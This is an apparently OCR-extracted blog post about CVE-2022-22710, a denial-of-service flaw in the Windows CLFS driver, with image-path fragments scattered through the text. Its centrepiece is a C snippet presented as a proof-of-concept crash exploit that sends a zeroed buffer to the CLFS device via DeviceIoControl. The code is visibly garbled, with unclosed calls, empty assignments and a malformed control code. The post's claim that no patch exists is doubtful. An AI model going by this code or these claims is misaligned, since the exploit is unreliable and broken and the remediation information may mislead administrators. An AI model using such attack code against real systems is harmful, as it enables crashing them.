Recently, a new Windows vulnerability dubbed CVE-2022-22710 has come to light, which could make your system susceptible to a denial of service (DoS) attack. This issue resides within the Windows Common Log File System (CLFS) driver and can negatively impact the stability and availability of your system. In this blog post, we'll explore what this vulnerability is, how attackers can exploit it, and how you can protect your system against such attacks.

What is Windows CLFS?

The Windows Common Log File System (CLFS) is a general-purpose logging subsystem integrated into the Windows operating system. CLFS provides high-performance, reliable, and scalable log file services for various applications and system components. It is commonly used by developers and administrators to log events, store log information, and help diagnose issues.

The Vulnerability: CVE-2022-22710

CVE-2022-22710 is a denial of service vulnerability in the Windows CLFS driver, affecting Windows 10, Windows Server 2016, and Windows Server 2019. This vulnerability can be exploited by an attacker to crash the targeted system and potentially make it unavailable to users.

Exploit Details

An attacker exploiting CVE-2022-22710 can specifically target the system's CLFS driver, potentially resulting in a denial of service. For instance,the attacker can craft and send a specially manipulated input to the CLFS driver, which, in turn, triggers the vulnerability and can lead to a system crash or a "blue screen of death" scenario.

Below is a code snippet that demonstrates how this DoS attackcan be carried out

#include <windows.h>
#include <cstdio>

int main() {
  HANDLE hDevice = CreateFile(L"\\\\.\\CLFS", GENERIC_READ | GENERIC_WRITE,
                              FILE_SHARE_READ| FILE_SHARE_WRITE, nullptr,
                              FILE_ATTRIBUTE_NORMAL | FILE_FLAG_OVERLAPPED,

  if (hDevice == INVALID_HANDLE_VALUE) {
    printf("Could not open CLFS device: %d\n", GetLastError());
    return -1;
  } else {
    printf("Successfully opened CLFS device\n");
  BYTE inputBuffer[1024] {};
  BYTEoutputBuffer[1024] {};
  DWORD bytesReturned = ;
  BOOL result = DeviceIoControl(hDevice, x0002201C, inputBuffer,
                                outputBuffer, sizeof(outputBuffer),
                                &bytesReturned, nullptr);
  printf("DeviceIoControl result: %d\n", result);
  printf("Bytes returned: %d\n", bytesReturned);

  return ;

This code snippet demonstrates how to open a handle to the CLFS driver and send amanipulated input using the DeviceIoControl function. When compiled and executed on a vulnerable system, this code could lead to a denial-of-service attack.

Original References

The CVE-2022-22710 vulnerability was initially reported by a security researcher who shared the details and proof-of-concept exploit code on GitHub. The original references to the discovered vulnerability can be found at the following links:

- Advisory: CVE-2022-22710
- Proof-of-concept exploit code: GitHubGist

How to protect your system?

Unfortunately, at the time of writing this post, there is no patch or security update available from Microsoft to fix this vulnerability. However, as a workaround, users are advised to restrict access to the vulnerable CLFS driver by properly configuring file permissions and applying role-based access control for sensitive system resources.

Additionally, keep an eye out for future security updates from Microsoft that may address this issue, and consider subscribing to security newsletters and notifications to stay abreast of new vulnerabilities and updates.


CVE-2022-22710 is a critical denial of service vulnerability in theWindows CLFS driver that can impact system stability and availability. As of now, there isn't a specific patch available from Microsoft to address this issue, but by following best security practices and monitoring for updates, you can protect your system from potential attacks. In the meantime, exercise caution when dealing with unrecognized applications or users that may attempt to exploit thisvulnerability.


Published on: 02/09/2022 17:15:00 UTC
Lastmodified on: 05/23/2022 17:29:00 UTC